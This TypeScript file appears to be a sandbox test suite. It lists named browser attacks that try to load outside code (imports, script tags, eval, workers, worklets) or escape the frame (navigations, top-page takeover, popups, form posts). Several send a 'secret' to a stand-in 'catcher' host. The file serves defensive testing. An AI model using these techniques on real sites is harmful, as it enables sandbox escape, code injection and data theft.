import { type Attack, click, element, html, LEFT, use, wait } from './attack.ts';

/** Attacks that bring in other code. */
export const scripts: readonly Attack[] = [
  { name: 'dynamic import of another site', code: `await import(catcher + '/module.mjs'); out('imported')` },
  {
    name: 'dynamic import of a data address',
    code: `await import('data:text/javascript,console.info("attack out [NAME] import of data")')`,
  },
  {
    name: 'module that nobody guards, by a blob address',
    code: `await import(URL.createObjectURL(new Blob(['console.info("attack out [NAME] import of a blob")'], { type: 'text/javascript' })))`,
  },
  { name: 'script element of another site', code: element('script', `{ src: catcher + '/script.js' }`) },
  {
    name: 'inline script',
    code: element('script', `{ textContent: 'console.info("attack out [NAME] inline script")' }`),
  },
  {
    name: 'event handler in HTML',
    code: html(`<img src="data:," onerror="console.info('attack out [NAME] handler')">`),
  },
  {
    name: 'written document',
    alone: 'always',
    code: `document.write('<script src="' + catcher + '/written.js"></' + 'script>'); ${wait}`,
  },
  { name: 'eval', code: `(0, eval)('console.info("attack out [NAME] eval")')` },
  { name: 'Function', code: `new Function('console.info("attack out [NAME] Function")')()` },
  {
    name: 'constructor of a function',
    code: `(async () => {}).constructor('console.info("attack out [NAME] constructor")')()`,
  },
  { name: 'text for a timer', code: `setTimeout('console.info("attack out [NAME] timer")', 0); ${wait}` },
  {
    name: 'WebAssembly',
    code: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); out('compiled')`,
  },
  {
    name: 'javascript: address',
    alone: 'to-succeed',
    code: `location.href = 'javascript:console.info("attack out [NAME] address")'; ${wait}`,
  },
  {
    name: 'worker of a blob',
    code: `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
      worker.onmessage = () => out('worker ran'); ${wait}`,
  },
  {
    name: 'worker of a data address',
    code: `new Worker('data:text/javascript,postMessage(1)').onmessage = () => out('worker ran'); ${wait}`,
  },
  {
    // This isn't a script, and fetching it is enough.
    name: 'worker of this site',
    code: `new Worker(location.href).onerror = () => out('asked for'); ${wait}`,
  },
  {
    name: 'shared worker',
    code: `const worker = new SharedWorker(URL.createObjectURL(new Blob(['onconnect=(event)=>event.ports[0].postMessage(1)'], { type: 'text/javascript' })));
      worker.port.onmessage = () => out('shared worker ran'); worker.port.start(); ${wait}`,
  },
  {
    name: 'service worker',
    code: `await navigator.serviceWorker.register('/runner/none.js').catch((error) => { if (/404|bad HTTP/.test(error.message)) out('asked for'); throw error; })`,
  },
  {
    name: 'worklet',
    code: `await new AudioContext().audioWorklet.addModule(catcher + '/worklet.js'); out('added')`,
  },
  {
    name: 'paint worklet of a blob',
    code: `await CSS.paintWorklet.addModule(URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))); out('added')`,
  },
  {
    // Nobody guards its code there, and every frame knows the address of its own.
    name: 'paint worklet of its own code',
    code: `const [own] = /blob:[^\\s)]+(?=:\\d+:\\d+)/.exec(new Error().stack);
      await CSS.paintWorklet.addModule(own); out('added')`,
  },
  {
    name: 'base address',
    alone: 'always',
    code: `${html(`<base href="\${catcher}/">`)} new Image().src = 'based'; ${wait}`,
  },
];

/** Attacks that leave the frame, open other pages, or reach the reader. */
export const frames: readonly Attack[] = [
  {
    name: 'frame of another site',
    code: html(`<iframe src="\${catcher}/frame"></iframe>`),
  },
  {
    name: 'frame with its own document',
    code: html(
      `<iframe srcdoc="<script src='\${catcher}/srcdoc.js'></script><img src='\${catcher}/srcdoc'>"></iframe>`,
    ),
    paths: ['srcdoc.js', 'srcdoc'],
  },
  {
    name: 'object and embed',
    code: html(`<object data="\${catcher}/object"></object><embed src="\${catcher}/embed">`),
    paths: ['object', 'embed'],
  },
  {
    name: 'leaves with data in the address',
    code: `location.href = catcher + '/leave?secret'; ${wait}`,
    ends: LEFT,
  },
  {
    name: 'leaves by replace',
    code: `location.replace(catcher + '/replace?secret'); ${wait}`,
    ends: LEFT,
  },
  {
    name: 'leaves by a refresh in the page',
    code: html(`<meta http-equiv="refresh" content="0; url=\${catcher}/refresh">`) + wait,
    ends: LEFT,
  },
  {
    name: 'leaves by a link',
    code: click(`<a href="\${catcher}/link">a</a>`),
    ends: LEFT,
  },
  {
    name: 'leaves for a data address',
    code: `location.href = 'data:text/html,<img src=' + catcher + '/data>'; ${wait}`,
    ends: LEFT,
  },
  {
    name: 'leaves for a page of this site',
    neverOut: 'it leads to this site: what counts is that the page takes the frame away',
    code: `location.href = '/user-guide?secret'; ${wait} ${wait}`,
    ends: LEFT,
  },
  {
    name: 'takes the top page along',
    alone: 'to-succeed',
    code: `top.location.href = catcher + '/top'; ${wait}`,
  },
  {
    name: 'takes the top page along by replace',
    alone: 'to-succeed',
    code: `parent.location.replace(catcher + '/parent'); ${wait}`,
  },
  {
    name: 'takes the top page along by a link',
    alone: 'to-succeed',
    code: click(`<a href="\${catcher}/top-link" target="_top">a</a>`),
  },
  {
    name: 'takes the top page along by a form',
    alone: 'to-succeed',
    code: use(`<form action="\${catcher}/top-form" target="_top"></form>`, 'submit'),
  },
  { name: 'goes back in the history of the page', alone: 'always', code: `history.back(); ${wait}` },
  {
    name: 'opens a window',
    alone: 'to-succeed',
    code: `if (window.open(catcher + '/window')) out('opened'); ${wait}`,
  },
  {
    name: 'opens a window by a link',
    alone: 'to-succeed',
    code: click(`<a href="\${catcher}/blank" target="_blank" rel="opener">a</a>`),
  },
  {
    name: 'opens a window by a form',
    alone: 'to-succeed',
    code: use(
      `<form action="\${catcher}/form" method="post" target="_blank"><input name="secret" value="1"></form>`,
      'submit',
    ),
  },
  {
    name: 'sends a form',
    alone: 'to-succeed',
    code: use(
      `<form action="\${catcher}/send" method="post"><input name="secret" value="1"></form>`,
      'requestSubmit',
    ),
  },
  {
    name: 'saves a file on the disk',
    alone: 'to-succeed',
    code: click(`<a href="data:text/plain,attack" download="attack.txt">a</a>`),
  },
  {
    name: 'asks the reader by a dialog',
    alone: 'to-succeed',
    code: `alert('attack'); confirm('attack'); prompt('attack'); print(); out('asked')`,
  },
  {
    name: 'takes the focus',
    alone: 'always',
    neverOut: 'the page removes a frame that has it: see the test of that',
    code: `${html('<input autofocus required><dialog><input></dialog>')} focus(); document.querySelector('input').focus?.();
      document.querySelector('input').reportValidity(); document.querySelector('dialog').showModal(); ${wait} ${wait}
      if (document.hasFocus()) out('focused')`,
  },
  {
    name: 'takes the screen and the pointer',
    code: `await document.documentElement.requestFullscreen(); out('full screen')`,
    neverOut: 'nobody has clicked',
  },
];
